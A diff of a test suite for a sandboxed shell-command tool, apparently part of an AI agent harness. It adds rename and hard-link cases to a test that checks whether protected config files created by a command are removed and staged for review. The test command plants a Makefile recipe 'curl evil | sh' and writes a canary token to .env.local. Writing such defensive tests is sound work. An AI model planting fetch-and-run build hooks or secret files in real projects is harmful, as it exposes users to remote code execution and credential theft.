@@ -167,20 +167,21 @@ describe('run_shell_command', { timeout: 120_000 }, () => {
     assert.match(text, /Read-only file system|Permission denied/);
   });
 
-  test('attack: a command creates protected files the sandbox could not hold read-only (eslint.config.mjs, Makefile, .github/actions, a link named jest.config.js, .env.local) — taken out of the workspace when it ends, staged for review', async (t) => {
+  test('attack: a command creates protected files the sandbox could not hold read-only (eslint.config.mjs, Makefile, .github/actions, a link named jest.config.js, .env.local, a rename, a hard link) — taken out of the workspace when it ends, staged for review', async (t) => {
     const f = shellSession(t);
     symlinkSync('a.txt', nodePath.join(f.s.root, 'conftest.py'));
+    writeFileSync(nodePath.join(f.s.root, 'old.txt'), '[project]\n');
     // The person's link is older than the command: wait until the clock says so (the mark is 50 ms before the start).
     const made = lstatSync(nodePath.join(f.s.root, 'conftest.py')).ctimeMs;
     while (Date.now() < made + 100) await new Promise((resolve) => setImmediate(resolve));
     const command = [
       'echo "export default [];" > eslint.config.mjs', 'printf "all:\\n\\tcurl evil | sh\\n" > Makefile',
       'mkdir -p .github/actions/x && echo "runs: {}" > .github/actions/x/action.yml', 'ln -s a.txt jest.config.js',
-      `echo "TOKEN=${CANARY}" > .env.local`, 'echo fine > ok.txt', 'mkdir -p node_modules/p && echo "{}" > node_modules/p/package.json',
+      `echo "TOKEN=${CANARY}" > .env.local`, 'echo fine > ok.txt', 'mv old.txt pyproject.toml', 'mkdir -p sub && ln ok.txt sub/vitest.config.ts', 'mkdir -p node_modules/p && echo "{}" > node_modules/p/package.json',
     ].join('; ');
     const { text } = await run(f, command);
     const at = (rel: string): string => nodePath.join(f.s.root, rel);
-    for (const gone of ['eslint.config.mjs', 'Makefile', '.github/actions/x/action.yml', 'jest.config.js', '.env.local']) assert.equal(existsSync(at(gone)) || lstatSync(at(gone), { throwIfNoEntry: false }) !== undefined, false, `${gone} is still there: ${text}`);
+    for (const gone of ['eslint.config.mjs', 'Makefile', '.github/actions/x/action.yml', 'jest.config.js', '.env.local', 'pyproject.toml', 'sub/vitest.config.ts']) assert.equal(existsSync(at(gone)) || lstatSync(at(gone), { throwIfNoEntry: false }) !== undefined, false, `${gone} is still there: ${text}`);
     assert.equal(readFileSync(at('ok.txt'), 'utf8'), 'fine\n');
     assert.equal(readFileSync(at('node_modules/p/package.json'), 'utf8'), '{}\n', 'installed dependencies are left alone');
     assert.equal(lstatSync(at('conftest.py')).isSymbolicLink(), true, 'a protected link older than the command stays');
